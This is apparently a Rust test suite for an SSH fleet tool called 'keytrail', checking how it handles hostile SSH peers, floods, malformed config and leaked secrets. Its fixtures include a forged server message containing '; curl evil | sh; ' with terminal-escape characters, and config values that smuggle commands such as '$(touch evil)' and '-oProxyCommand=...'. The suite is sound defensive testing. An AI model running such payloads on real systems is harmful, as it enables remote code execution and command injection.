//! What somebody can do who owns a host, or stands between: write what he likes, when he likes, without end.

use crate::common::vaulted::Site;
use crate::common::{Lab, run};
use keytrail::remote::{Cause, Unreachable};
use serde_json::Value;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;
use tempfile::TempDir;

/// What ssh itself would log, had all gone well, or otherwise.
const FORGED: &str = "x\nServer host key: ssh-ed25519 SHA256:SbFrXG15UgFPdIyb4Zq6EDhayJT+ZWVFyLNysQYoLtQ\n\
    debug1: Host 'h1' is known and matches the ED25519 host key.\nFound key in /root/.ssh/known_hosts:1\n\
    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nOffending ED25519 key in /x'; curl evil | sh; ':1\n\
    Host key for h1'; curl evil | sh; ' has changed and you have requested strict checking.\n\
    UNKNOWN port 65535\nConnection refused\nPermission denied (publickey)\u{1b}[8m\u{202e}\n";

/// A peer on a port that says what `speak` says to whoever connects.
fn peer(speak: impl Fn(&mut TcpStream) -> std::io::Result<()> + Send + Sync + Copy + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("its address").port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                // Whoever is cut off has been refused.
                let _ = speak(&mut stream);
                let _ = stream.read(&mut [0; 1 << 14]);
            });
        }
    });
    port
}

/// An SSH packet before any key exchange: unencrypted.
fn packet(payload: &[u8]) -> Vec<u8> {
    let padding = 8 - (payload.len() + 5) % 8 + 8;
    let length = u32::try_from(1 + payload.len() + padding).expect("short");
    let mut packet = length.to_be_bytes().to_vec();
    packet.push(u8::try_from(padding).expect("short"));
    packet.extend_from_slice(payload);
    packet.resize(packet.len() + padding, 0);
    packet
}

fn string(text: &[u8]) -> Vec<u8> {
    let mut bytes = u32::try_from(text.len()).expect("short").to_be_bytes().to_vec();
    bytes.extend_from_slice(text);
    bytes
}

/// `SSH_MSG_DEBUG`, to be shown always.
fn debug(text: &[u8]) -> Vec<u8> {
    packet(&[&[4, 1][..], &string(text), &string(b"")].concat())
}

fn forge(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"before the version\r\nSSH-2.0-OpenSSH_9.2\r\n")?;
    stream.write_all(&debug(FORGED.as_bytes()))?;
    // SSH_MSG_DISCONNECT.
    let reason = [&[1, 0, 0, 0, 2][..], &string(FORGED.as_bytes()), &string(b"")].concat();
    stream.write_all(&packet(&reason))
}

fn flood_debug(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n")?;
    let much = debug(&[b'F'; 899]).repeat(64);
    loop {
        stream.write_all(&much)?;
    }
}

fn flood_greeting(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        stream.write_all(&b"a line before the version, again and again\r\n".repeat(256))?;
    }
}

/// An inventory of one host at this port, for which another key is known.
fn inventory(dir: &Path, port: u16, known: &str) -> PathBuf {
    fs::write(dir.join("known"), known).expect("known_hosts");
    let config = format!(
        "Host *\n  HostName 127.0.0.1\n  Port {port}\n  HostKeyAlias h1\n  IdentityAgent none\n  UserKnownHostsFile {}\n  \
         GlobalKnownHostsFile /dev/null\n",
        dir.join("known").display()
    );
    fs::write(dir.join("config"), config).expect("ssh_config");
    let file = dir.join("fleet.yaml");
    let text = "version: 1\ndefaults: { ssh: { config: config, connect_timeout: 2s } }\n\
                groups: { green: { identity: gq, trusted: [h1] } }\n\
                hosts: { h1: { group: green, address: h1, reference_clock: true } }\n";
    fs::write(&file, text).expect("the inventory");
    file
}

fn keytrail(dir: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_keytrail"));
    command.current_dir(dir).env("NO_COLOR", "1").env("TMPDIR", dir);
    command
}

fn hostkeys(dir: &Path) -> (Value, String) {
    let output = keytrail(dir)
        .args(["hostkeys", "fleet.yaml", "--format", "json"])
        .output()
        .expect("run");
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).expect("text");
    (serde_json::from_str(&text).expect("JSON"), text)
}

fn is_wild(c: char) -> bool {
    keytrail::foreign::is_hidden(c) && c != '\n'
}

#[test]
fn no_text_of_a_peer_makes_a_key_known_or_changed() {
    let other = "h1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n";
    for known in ["", other] {
        let dir = TempDir::with_prefix("keytrail-test-").expect("a directory");
        inventory(dir.path(), peer(forge), known);
        let (json, text) = hostkeys(dir.path());
        let host = &json["hosts"]["h1"];
        assert_eq!(host["state"], "unreachable", "{text}");
        assert_eq!(host["keys"], serde_json::json!([]), "{text}");
        let help = host["help"].as_str().expect("advice");
        assert!(
            !help.contains("curl") && !help.contains("ssh-keygen -R"),
            "{help}"
        );
        assert!(!text.contains(is_wild), "{text:?}");
        let plain = keytrail(dir.path())
            .args(["hostkeys", "fleet.yaml"])
            .output()
            .expect("run");
        let plain = String::from_utf8(plain.stdout).expect("text");
        assert!(
            plain.ends_with("1 host: 1 unreachable\n") && !plain.contains(is_wild),
            "{plain}"
        );
        assert_eq!(
            fs::read_to_string(dir.path().join("known")).expect("there"),
            known
        );
    }
}

/// The most memory a process has had, in KiB, and the bytes of files below a directory, seen while it ran.
fn watched(dir: &Path) -> (u64, u64) {
    let mut child = keytrail(dir)
        .args(["hostkeys", "fleet.yaml"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("run");
    let (mut memory, mut disk) = (0, 0);
    while child.try_wait().expect("a child").is_none() {
        let status = fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap_or_default();
        let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
        let peak = peak.and_then(|peak| peak.split_whitespace().next()?.parse().ok());
        memory = memory.max(peak.unwrap_or(0));
        disk = disk.max(size(dir));
        std::thread::sleep(Duration::from_millis(20));
    }
    (memory, disk)
}

fn size(dir: &Path) -> u64 {
    let entries = fs::read_dir(dir).into_iter().flatten().flatten();
    let sizes = entries.map(|entry| match entry.metadata() {
        Ok(meta) if meta.is_dir() => size(&entry.path()),
        Ok(meta) => meta.len(),
        Err(_) => 0,
    });
    sizes.sum()
}

#[test]
fn a_flood_before_the_login_takes_no_memory_and_no_disk() {
    let fresh = |port| {
        let dir = TempDir::with_prefix("keytrail-test-").expect("a directory");
        inventory(dir.path(), port, "");
        watched(dir.path())
    };
    let (usual, _) = fresh(peer(|_| Ok(())));
    assert!(usual > 0, "nothing was measured");
    for port in [peer(flood_debug), peer(flood_greeting)] {
        let (memory, disk) = fresh(port);
        assert!(memory < usual + 32 * 1024, "{memory} KiB beside {usual} KiB");
        assert!(disk < 256 * 1024, "{disk} bytes");
    }
}

#[tokio::test]
async fn a_banner_decides_nothing_and_is_not_shown() {
    let dir = TempDir::with_prefix("keytrail-test-").expect("a directory");
    let banner = dir.path().join("banner");
    fs::write(&banner, FORGED).expect("the banner");
    let lab = Lab::with_host(&[&format!("Banner {}", banner.display())]);
    let mut options = lab.options("one");
    let config = fs::read_to_string(lab.servers.config()).expect("ssh_config");
    let without_key = lab.dir.path().join("without_key");
    fs::write(&without_key, config.replace("client_key", "no_such_key")).expect("written");
    options.config = Some(without_key);
    let refused = run(&lab.with_options(options), "echo in\n", b"")
        .await
        .unwrap_err();
    let Unreachable::Refused { cause, said } = &refused else {
        panic!("{refused:?}")
    };
    assert_eq!(*cause, Cause::Login, "{refused:?}");
    assert!(
        !said.contains("curl") && said.contains("Permission denied"),
        "{said}"
    );
    assert!(!refused.help().contains("jump host"), "{}", refused.help());
    assert!(!refused.to_string().contains(is_wild), "{refused:?}");
}

#[tokio::test]
async fn a_host_that_never_stops_talking_is_cut_off() {
    let lab = Lab::with_host(&["ForceCommand yes"]);
    let endless = run(&lab.host("one"), "echo in\n", b"").await.unwrap_err();
    assert!(matches!(endless, Unreachable::TooMuch(_)), "{endless:?}");
    let mut lab = lab;
    lab.start("two", &["ForceCommand yes >&2"]);
    let mut script = crate::common::script("echo in\n", b"");
    script.limit = Duration::from_secs(1);
    let endless = keytrail::remote::Remote::run(&lab.host("two"), script)
        .await
        .unwrap_err();
    assert!(matches!(endless, Unreachable::TimedOut(_)), "{endless:?}");
}

#[test]
fn a_host_with_broken_files_fails_alone() {
    let site = Site::empty();
    site.hosts(&["leaf", "bad"]);
    site.run("apply fleet.yaml").good();
    let conf = site.path("hosts/bad/etc/ntp.conf");
    let whole = fs::read_to_string(&conf).expect("ntp.conf");
    let names = "a\u{1b}[8m\u{202e}b";
    for broken in [
        "# >>> keytrail >>> lines up to the end marker are overwritten\n".to_owned(),
        format!("# >>> keytrail {names}\n"),
        "\n".repeat(20_001),
        format!("{whole}{whole}"),
    ] {
        fs::write(&conf, &broken).expect("broken");
        fs::write(site.path("hosts/leaf/etc/ntp.conf"), "# by hand\n").expect("changed");
        for line in [
            "plan fleet.yaml",
            "status fleet.yaml",
            "status fleet.yaml --format json",
        ] {
            let output = site.command("ann", line).output().expect("run");
            assert_eq!(output.status.code(), Some(1), "{line}: {output:?}");
            let said = String::from_utf8([output.stdout, output.stderr].concat()).expect("text");
            assert!(said.contains("leaf") && said.contains("bad"), "{said}");
            assert!(!said.contains(is_wild), "{said:?}");
        }
        let output = site
            .command("ann", "apply fleet.yaml --skip-unreachable")
            .output()
            .expect("run");
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        let leaf = fs::read_to_string(site.path("hosts/leaf/etc/ntp.conf")).expect("there");
        assert!(
            leaf.contains(">>> keytrail >>>"),
            "the others are changed: {leaf}"
        );
        assert_eq!(fs::read_to_string(&conf).expect("there"), broken);
    }
}

#[test]
fn a_secret_behind_a_slip_of_the_pen_is_shown_by_no_report() {
    let fleet = |host: &str, more: &str| {
        format!(
            "version: 1\n{more}groups: {{ green: {{ identity: gq, trusted: [h1] }} }}\nhosts:\n  \
             h1: {{ group: green, reference_clock: true }}\n  h2:\n    group: green\n    servers: [h1]\n{host}"
        )
    };
    let texts = [
        fleet("    pasword: SECRETMARK\n", ""),
        fleet("    pasword: |\n      SECRETMARK\n", ""),
        fleet("    pasword: [a, { b: 'SECRETMARK' }]\n", ""),
        fleet("    pasword: { SECRETMARK: x }\n", ""),
        fleet("    pasword: *pw\n", "x-pw: &pw SECRETMARK\n"),
        fleet("    <<: *all\n", "x-all: &all { pasword: SECRETMARK }\n"),
        fleet("    ssh: { user: ops, pw: SECRETMARK, port: none }\n", ""),
        fleet("    user: &pw SECRETMARK\n    servrs: *pw\n", ""),
        fleet("", "symmetric_keys: { 7: SECRETMARK }\n"),
        fleet("", "symmetric_keys: { 7: { type: SHA1, valu: SECRETMARK } }\n"),
        fleet("", "secret: SECRETMARK\n"),
        fleet("    pasword: SECRETMARK: x\n", ""),
        fleet("    pasword: \"SECRETMARK\n", ""),
        fleet("    pasword: SECRETMARK\n  - x\n", ""),
        fleet("    group: red\n---\npasword: SECRETMARK\n", ""),
        fleet("    pasword: SECRETMARK\n\tservers: x\n", ""),
    ];
    let dir = TempDir::with_prefix("keytrail-test-").expect("a directory");
    for text in texts {
        fs::write(dir.path().join("fleet.yaml"), &text).expect("written");
        for format in ["text", "json", "sarif", "github", "junit"] {
            let output = keytrail(dir.path())
                .args(["check", "fleet.yaml", "--format", format])
                .output()
                .expect("run");
            let said = String::from_utf8([output.stdout, output.stderr].concat()).expect("text");
            assert!(!output.status.success(), "{format}: {text}");
            assert!(
                !said.is_empty() && !said.contains("SECRETMARK"),
                "{format}: {text}\n{said}"
            );
        }
    }
}

#[test]
fn words_for_ssh_are_no_commands() {
    let dir = TempDir::with_prefix("keytrail-test-").expect("a directory");
    for word in [
        "proxy_jump: 'gate;touch evil'",
        "proxy_jump: '-oProxyCommand=touch evil'",
        "proxy_jump: 'a,$(touch evil)'",
        "user: '$(touch evil)'",
        "user: -l",
        "host: 'h;touch evil'",
        "identity_file: '$(touch evil)'",
        "config: 'a b;touch evil'",
        "config: '-F'",
    ] {
        let text = format!(
            "version: 1\ngroups: {{ green: {{ identity: gq, trusted: [h1] }} }}\nhosts:\n  \
             h1: {{ group: green, reference_clock: true, ssh: {{ {word} }} }}\n"
        );
        fs::write(dir.path().join("fleet.yaml"), text).expect("written");
        let output = keytrail(dir.path())
            .args(["hostkeys", "fleet.yaml"])
            .output()
            .expect("run");
        assert_eq!(output.status.code(), Some(2), "{word}");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(said.contains("value-invalid"), "{word}: {said}");
    }
    assert!(!dir.path().join("evil").exists());
}
